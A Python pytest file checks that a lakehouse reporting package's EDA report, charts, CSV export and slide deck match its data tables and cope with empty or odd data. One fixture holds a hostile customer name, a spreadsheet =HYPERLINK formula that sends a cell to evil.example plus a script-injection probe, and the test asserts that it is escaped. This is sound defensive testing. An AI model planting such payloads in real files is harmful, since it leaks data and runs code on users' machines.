"""The report and the slides say what the tables say, in whatever state the data is, and what is shipped is current."""

from __future__ import annotations

import base64
import csv
import hashlib
import html as escaping
import json
import re
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image
from pptx import Presentation

from conftest import ROOT
from medallion import charts, metrics, report
from medallion.care import status
from medallion.lakehouse import manifests, query
from medallion.report import deck, sections
from medallion.report.facts import CORRELATED
from medallion.report.presentation import presentation
from medallion.report.text import text
from medallion.weights import ScoreWeights

PICTURES = ("01_deals_and_interactions", "02_customer_features", "03_industry_analysis")
#: Where each chart of a picture lies, in halves of its width and height: left, top, right, bottom.
QUARTERS = [(left, top, left + 1, top + 1) for left in (0, 1) for top in (0, 1)]
PANELS = dict.fromkeys(PICTURES, QUARTERS) | {PICTURES[1]: [(0, 0, 2, 1), (0, 1, 1, 2), (1, 1, 2, 2)]}
FILES = {*(f"{name}.png" for name in PICTURES), "customer_features.csv", "EDA_REPORT.txt", "EDA_REPORT.html"}
REGENERATE = "run `just reports` and commit what it writes"


@pytest.fixture(scope="module")
def written(sample, tmp_path_factory):
    out = tmp_path_factory.mktemp("analysis")
    report.eda(sample, out)
    report.slides(sample, out, ScoreWeights())
    return out


@pytest.fixture(scope="module")
def gathered(sample):
    return report.gathered(sample)


def words_of(page: str) -> str:
    """The visible text of a page."""
    body = re.sub(r"<(script|style|noscript)[^>]*>.*?</\1>", " ", page, flags=re.DOTALL)
    return " ".join(escaping.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def charts_of(page: str):
    return json.loads(re.search(r'id="charts">(.*?)</script>', page, re.DOTALL).group(1))


def slides_of(path: Path | bytes):
    """Per slide: texts, tables and chart figures."""
    found = []
    for slide in Presentation(BytesIO(path) if isinstance(path, bytes) else str(path)).slides:
        shown = []
        for shape in slide.shapes:
            if shape.has_text_frame:
                shown.append(shape.text_frame.text)
            elif shape.has_table:
                shown.append([[cell.text for cell in row.cells] for row in shape.table.rows])
            elif shape.has_chart:
                plot = shape.chart.plots[0]
                shown.append((list(plot.categories), {s.name: list(s.values) for s in plot.series}))
        found.append((shown, slide.notes_slide.notes_text_frame.text))
    return found


def plot_is_empty(picture: Image.Image) -> bool:
    """Whether a part of a picture has nothing drawn in it."""
    colours = picture.convert("RGB").resize((100, 100)).getcolors(10_000)
    return max(count for count, _ in colours) > 9_900


def painted(picture: Image.Image) -> float:
    """The share of a picture that is neither black, white nor grey."""
    saturation = picture.convert("HSV").getchannel("S").histogram()
    return sum(saturation[120:]) / sum(saturation)


# what is written


def test_all_files_are_written(written):
    assert {path.name for path in written.iterdir()} == FILES | {"presentation.pptx", "presentation_notes.md"}


def test_a_report_is_of_one_state(sample, monkeypatch):
    opened, real = [], manifests.opened
    monkeypatch.setattr(manifests, "opened", lambda lake, at=None: opened.append(at) or real(lake, at))
    report.gathered(sample)
    assert opened == [None]


@pytest.mark.parametrize("name", PICTURES)
@pytest.mark.parametrize("folder", ["made now", "shipped"])
def test_pictures_are_large_and_nowhere_blank(written, folder, name):
    with Image.open((written if folder == "made now" else ROOT / "analysis") / f"{name}.png") as picture:
        width, height = picture.size
        assert 1800 < width < 3200
        assert 900 < height < 2400
        for left, top, right, bottom in PANELS[name]:
            part = picture.crop((left * width // 2, top * height // 2, right * width // 2, bottom * height // 2))
            assert not plot_is_empty(part)
            assert painted(part) > 0.003, "words, but nothing drawn"
    assert plot_is_empty(Image.new("RGB", (width, height), "white"))


def test_shipped_reports_are_current(written):
    for name in ("EDA_REPORT.txt", "customer_features.csv"):
        assert (ROOT / "analysis" / name).read_bytes() == (written / name).read_bytes(), REGENERATE
    shipped, now = ((folder / "EDA_REPORT.html").read_text() for folder in (ROOT / "analysis", written))
    assert words_of(shipped) == words_of(now), REGENERATE
    assert charts_of(shipped) == charts_of(now), REGENERATE
    for name in PICTURES:
        with Image.open(ROOT / "analysis" / f"{name}.png") as old, Image.open(written / f"{name}.png") as new:
            assert old.size == new.size, REGENERATE


def test_shipped_slides_are_current(written):
    folder = ROOT / "presentation"
    assert (folder / "presentation_notes.md").read_text() == (written / "presentation_notes.md").read_text(), REGENERATE
    assert slides_of(folder / "presentation.pptx") == slides_of(written / "presentation.pptx"), REGENERATE


# what it says is what the tables say


def test_key_figures_are_those_of_the_metrics(sample, written, gathered):
    told = (written / "EDA_REPORT.txt").read_text()
    page = words_of((written / "EDA_REPORT.html").read_text())
    with query.connect(sample) as connection:
        assert {*metrics.INSIGHTS} < {*gathered[0].figures}
        for name in gathered[0].figures:
            metric = metrics.metrics()[name]
            label, value = metric.measure.display_name, metrics.written(name, metrics.value(connection, name), "USD")
            assert re.search(rf"^ {re.escape(label)} +{re.escape(value)} ", told, re.MULTILINE), name
            assert f"{label} {value} {metric.measure.comment}" in page, name


def table_of(told: str, title: str) -> list[list[str]]:
    """The cells of a table in the text, by at least two spaces."""
    lines = told.split(f"\n{title}\n")[1].lstrip("\n").split("\n")
    rows = lines[2 : lines.index("", 2)]
    return [re.split(r" {2,}", row.strip()) for row in rows]


def usd(value) -> str:
    return f"${value:,.0f}"


@pytest.mark.parametrize(
    ("title", "column"), [("Deals by source", "source"), ("Deals by industry of the account", "industry")]
)
def test_breakdowns_are_those_of_silver(written, rows, sample, title, column):
    found = rows(
        sample,
        f"""select {column}, count(*) as n, count(*) filter (status = 'open') as o, count(*) filter (status = 'won') as w,
        count(*) filter (status = 'lost') as l, sum(deal_value) as v,
        coalesce(sum(deal_value) filter (status = 'won'), 0) as r
        from silver.leads_clean join silver.customers_clean using (customer_id) group by all""",
    )
    expected = {
        row[column].replace("_", " "): [str(row[k]) for k in "nowl"] + [usd(row["v"]), usd(row["r"])] for row in found
    }
    told = {row[0]: row[1:7] for row in table_of((written / "EDA_REPORT.txt").read_text(), title)}
    assert told == expected


def test_slides_tell_the_metrics(sample, written):
    slides = slides_of(written / "presentation.pptx")
    assert len(slides) == 6
    figures = {name: metrics.written(name, value, "USD") for name, value in status.insights(sample).items()}
    everything = json.dumps(slides, ensure_ascii=False)
    for name in ("revenue", "win_rate", "open_pipeline", "weighted_pipeline", "average_lead_score", "hot_lead_share"):
        assert figures[name] in everything, name
    with query.connect(sample) as connection:
        accounts = query.rows(connection, "from ops.row_accounts order by entity")
        industries = dict(
            connection.execute(
                "select industry, cast(sum(deal_value) as double) from silver.leads_clean join silver.customers_clean "
                "using (customer_id) where status = 'won' group by 1"
            ).fetchall()
        )
    (table,) = (item for item in slides[2][0] if isinstance(item, list))
    names = ("entity", "rows_read", "accepted", "duplicate", "superseded", "quarantined")
    assert sorted(table[1:-1]) == [[str(row[name]) for name in names] for row in accounts]
    by_source, by_industry = (item for item in slides[4][0] if isinstance(item, tuple))
    assert dict(zip(by_industry[0], by_industry[1]["revenue"], strict=True)) == industries
    assert sum(map(sum, by_source[1].values())) == 15
    for _, notes in slides:
        assert len(notes) > 150


def test_the_profile_counts_what_the_sample_s_readme_lists(gathered):
    """By hand from data/README.md: lines that it names for a column."""
    cells = {f"{item.entity}.{cell.column}": cell for item in gathered[1] for cell in item.cells}
    assert [cells[f"leads.{name}"].untidy for name in ("source", "status", "lead_id", "customer_id")] == [12, 11, 1, 1]
    assert [cells[f"interactions.{name}"].untidy for name in ("channel", "occurred_at")] == [20, 4]
    assert cells["interactions.direction"].placeholders == 1
    assert cells["leads.phone"].placeholders == 3
    assert (cells["leads.status"].spellings, cells["leads.status"].distinct) == (11, 3)
    assert (cells["customers.email"].filled, cells["customers.email"].values) == (11, 11)
    assert (cells["products.product_id"].filled, cells["products.product_id"].values) == (8, 7)


def test_correlations_are_spearman_s(sample, gathered, rows):
    """With their ties, over the customers of whom both figures are known."""
    from scipy.stats import spearmanr

    frame = rows(sample, "from gold.customer_features")
    column = {label: name for name, (label, _) in CORRELATED.items()}
    assert len(gathered[0].correlations) > 30
    for found in gathered[0].correlations:
        a, b = column[found["a"]], column[found["b"]]
        pairs = [(float(r[a]), float(r[b])) for r in frame if r[a] is not None and r[b] is not None]
        expected = spearmanr(*zip(*pairs, strict=True)).statistic
        assert (found["rho"], found["n"]) == (pytest.approx(expected, abs=1e-8), len(pairs)), (a, b)


# in whatever state the data is

CUSTOMERS = "customer_id,customer_name,industry,country,employee_count\n"
LEADS = "lead_id,customer_id,source,status,deal_value,created_at,closed_at\n"
TOUCHES = "interaction_id,customer_id,channel,occurred_at,outcome,notes\n"
EVIL = '=HYPERLINK("http://evil.example/?"&A1)<script>alert(1)</script>[bold]|`*'
ONE = "C1,Acme,Retail,Norway,10\n"

STATES = {
    "no rows": (
        {"customers.csv": CUSTOMERS, "leads.csv": LEADS, "interactions.csv": TOUCHES},
        ["There are no deals yet", "There are no customers yet", "There are no interactions yet", "no data",
         "There are no deals.", "There are no interactions.", "There are no customers."],
    ),
    "one customer": (
        {"customers.csv": CUSTOMERS + ONE},
        ["There are no deals yet", "No correlation can be computed".lower()],
    ),
    "all open, many industries": (
        {
            "customers.csv": CUSTOMERS
            + "".join(f"C{n},Shop {n},A rather long name of an industry number {n},Norway,{n}\n" for n in range(1, 61)),
            "leads.csv": LEADS + "".join(f"L{n},C{n},referral,open,{n if n > 1 else ''},2025-05-01,\n" for n in range(1, 61)),
            "interactions.csv": TOUCHES + "I1,C1,call,2025-06-03 10:00,positive,hello\n",
        },
        [
            "All 60 deals are open: there is no win rate yet", "1 open deal has no value", "21 others",
            "No customer has brought revenue yet", "59 worth $1,829 belong to customers never touched",
        ],
    ),
    "no industry, hostile names": (
        {
            "customers.csv": CUSTOMERS
            + f'C1,"{EVIL.replace(chr(34), chr(34) * 2)}",,Norway,10\n'
            + "".join(f"C{n},Shop {n},,Norway,{n}\n" for n in range(2, 60)),
            "leads.csv": LEADS
            + "".join(f"L{n},C{n},referral,{'won' if n % 3 else 'lost'},{60 - n}00,2025-05-01,2025-06-0{n % 9 + 1}\n" for n in range(1, 60)),
        },
        ["No industry is known for any of the 59 closed deals", "No deal's account has a known industry"],
    ),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("state", STATES)
def test_any_state_of_the_data_is_told_in_words_and_drawn(deliver, tmp_path, monkeypatch, state):
    files, sentences = STATES[state]
    monkeypatch.setattr(charts, "javascript", lambda: "window.vegaEmbed = null;")
    _, lake = deliver(files)
    out = tmp_path / "out"
    report.eda(lake, out)
    report.slides(lake, out, ScoreWeights())
    told = " ".join((out / "EDA_REPORT.txt").read_text().split())
    for sentence in sentences:
        assert sentence in told, sentence
    assert "nan" not in told.lower().replace("finance", "")
    assert "None" not in told.replace("None of", "")
    for name in PICTURES:
        with Image.open(out / f"{name}.png") as picture:
            assert min(picture.size) > 400
            assert not plot_is_empty(picture)
    assert len(slides_of(out / "presentation.pptx")) == 6
    if "hostile" in state:
        page = (out / "EDA_REPORT.html").read_text()
        assert "<script>alert" not in page
        assert "=HYPERLINK(" in words_of(page)
        with (out / "customer_features.csv").open(newline="") as file:
            names = {row["customer_name"] for row in csv.DictReader(file)}
        assert f"'{EVIL}" in names
        assert "<script>" not in (out / "presentation_notes.md").read_text().replace("\\<", "")


def test_the_page_needs_no_network_and_runs_only_its_own_scripts(written):
    page = (written / "EDA_REPORT.html").read_text()
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page).group(1)
    scripts = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    assert len(scripts) == 2
    for script in scripts:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in escaping.unescape(policy)
    assert "default-src 'none'" in escaping.unescape(policy)
    without = re.sub(r"<script.*?</script>", "", page, flags=re.DOTALL)
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", without)
    assert {*charts_of(page)["charts"]} == set(re.findall(r'data-chart="([^"]+)"', page))


def test_a_folder_that_cannot_be_written_is_said(sample, gathered, tmp_path, monkeypatch):
    from medallion.errors import MedallionError

    monkeypatch.setattr(report, "gathered", lambda lake: gathered)
    (tmp_path / "file").write_text("")
    with pytest.raises(MedallionError, match="cannot be written"):
        report.slides(sample, tmp_path / "file" / "out", ScoreWeights())


def test_text_and_slides_of_the_same_facts_are_the_same(gathered):
    facts, profiles = gathered
    assert text(sections.document(facts, profiles)) == text(sections.document(facts, profiles))
    made = deck.slides(facts, profiles, ScoreWeights())
    assert slides_of(presentation(made, facts)) == slides_of(presentation(made, facts))


if __name__ == "__main__":
    raise SystemExit(pytest.main([__file__]))
